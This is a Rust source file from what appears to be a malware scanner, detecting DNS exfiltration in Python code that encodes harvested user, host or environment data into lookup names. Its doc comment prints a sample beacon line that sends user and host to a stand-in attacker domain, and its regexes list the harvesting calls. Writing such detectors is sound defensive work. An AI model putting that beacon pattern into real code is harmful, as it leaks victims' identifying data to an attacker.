//! DNS exfiltration, reported by `network.exfiltration-endpoint`: a DNS lookup
//! (`socket.gethostbyname`, `getaddrinfo`, `dns.resolver.resolve`) of a name
//! *built* from harvested facts — user name, host name, working directory,
//! environment — so the query itself carries them to the attacker's name server
//! (`gethostbyname(b32encode(user + '@' + host) + '.oob.example.org')`).
//!
//! The lookup's argument must (1) reach harvested data, directly or through
//! variables assigned from it, (2) build a name (`+`, `%`, `.format`, f-string,
//! `join`) and (3) encode the data (base32/64/hex) or append a literal domain of
//! two or more labels. `gethostbyname(socket.gethostname())` (own address),
//! `getaddrinfo(host, port)` and lookups of literals stay quiet.
//!
//! Owns: the taint walk. Must not: decide the detector's other endpoints.

use super::pysrc::{self, Kind, Source};
use crate::model::{FileRole, Severity};
use crate::scan::detector::TextFile;
use regex::Regex;
use std::sync::LazyLock;

/// Literals that make a file worth the DNS check: the exfiltration detector's prefilter
/// must contain them all (checked by a test there).
pub(crate) const LITERALS: &[&str] = &["gethostbyname", "getaddrinfo", "dns.resolver"];

static DNS_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?-u:\b)(?:(?:socket\.)?gethostbyname(?:_ex)?|socket\.getaddrinfo|dns\.resolver\.(?:resolve|query))\s*\(",
    )
    .expect("dns call")
});
/// Facts about the victim a beacon carries.
static HARVEST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:platform\.(?:node|uname)|os\.uname|getpass\.getuser|os\.getlogin|socket\.gethostname|socket\.getfqdn|uuid\.getnode|os\.getcwd|os\.environ|os\.getenv|getuser|gethostname)(?-u:\b)").expect("harvest")
});
static ENCODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:b32encode|b64encode|urlsafe_b64encode|b16encode|hexlify|\.hex)\s*\(").expect("encode")
});
static BUILDS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"\+|%|\.format\s*\(|(?-u:\b)[fF]['"]|\.join\s*\("#).expect("builds"));
/// A quoted domain suffix of at least two labels: `'.oob.example.org'`, or the tail of
/// an f-string after an interpolation: `f"{user}.{host}.x.oast.fun"`.
static DOMAIN_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"['"]\.?[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}['"]|\}\.(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}['"]"#)
        .expect("domain")
});

/// Code, or an interpolation inside an f-string (`f"{getpass.getuser()}.x.example.org"`).
fn evaluated(src: &Source<'_>, off: usize) -> bool {
    match src.span_at(off) {
        None => true,
        Some(sp) => {
            sp.kind == Kind::Str
                && sp.fstring
                && off > sp.body_start
                && src.text.get(sp.body_start..off).is_some_and(|b| b.contains('{'))
        }
    }
}
static ASSIGN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?m)^[ \t]*([A-Za-z_]\w*)[ \t]*=[^=](.*)$").expect("assign"));
static IDENT: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"[A-Za-z_]\w*").expect("ident"));

/// The call's argument text (balanced parentheses, at most 2 KiB).
fn argument(text: &str, after_paren: usize) -> &str {
    pysrc::call_argument(text, after_paren, 2048)
}

/// One DNS-exfiltration lookup: (offset of the call, call name, severity).
pub(crate) fn find(file: &TextFile<'_>, src: &Source<'_>) -> Option<(usize, String, Severity)> {
    if !file.is_python {
        return None;
    }
    let calls: Vec<_> = DNS_CALL.find_iter(file.text).filter(|m| src.is_code(m.start())).collect();
    if calls.is_empty() || !HARVEST.is_match(file.text) {
        return None;
    }
    // Variables assigned (in code) from harvested data, in file order: one forward
    // pass propagates through chains (`u = getuser()`, `d = b32encode(u…)`).
    // (name, offset, encoded, names a host: built with a domain suffix or encoding)
    let mut tainted: Vec<(&str, usize, bool, bool)> = Vec::new();
    for c in ASSIGN.captures_iter(file.text) {
        let (lhs, rhs) = (c.get(1).expect("lhs"), c.get(2).expect("rhs"));
        if !src.is_code(lhs.start()) {
            continue;
        }
        let direct = HARVEST.find_iter(rhs.as_str()).any(|h| evaluated(src, rhs.start() + h.start()));
        let via: Vec<(bool, bool)> = IDENT
            .find_iter(rhs.as_str())
            .filter_map(|i| tainted.iter().rev().find(|t| t.0 == i.as_str()).map(|t| (t.2, t.3)))
            .collect();
        if direct || !via.is_empty() {
            let r = rhs.as_str();
            let encoded = ENCODE.is_match(r) || via.iter().any(|v| v.0);
            let names = BUILDS.is_match(r) && (encoded || DOMAIN_LITERAL.is_match(r)) || via.iter().any(|v| v.1);
            tainted.push((lhs.as_str(), lhs.start(), encoded, names));
        }
    }
    for call in calls {
        let arg = argument(file.text, call.end());
        let base = call.end();
        let direct = HARVEST.find_iter(arg).any(|h| evaluated(src, base + h.start()));
        let via: Vec<(bool, bool)> = IDENT
            .find_iter(arg)
            .filter(|i| evaluated(src, base + i.start()))
            .filter_map(|i| tainted.iter().rev().find(|t| t.0 == i.as_str() && t.1 < call.start()).map(|t| (t.2, t.3)))
            .collect();
        if !direct && via.is_empty() {
            continue;
        }
        let named = via.iter().any(|v| v.1);
        if !BUILDS.is_match(arg) && !named {
            continue;
        }
        let encoded = ENCODE.is_match(arg) || via.iter().any(|v| v.0);
        if !(encoded || named || DOMAIN_LITERAL.is_match(arg)) {
            continue;
        }
        let sev = if file.role == FileRole::InstallTime { Severity::Critical } else { Severity::High };
        let name = call.as_str().trim_end_matches('(').trim_end();
        return Some((call.start(), format!("DNS lookup of harvested data ({name})"), sev));
    }
    None
}
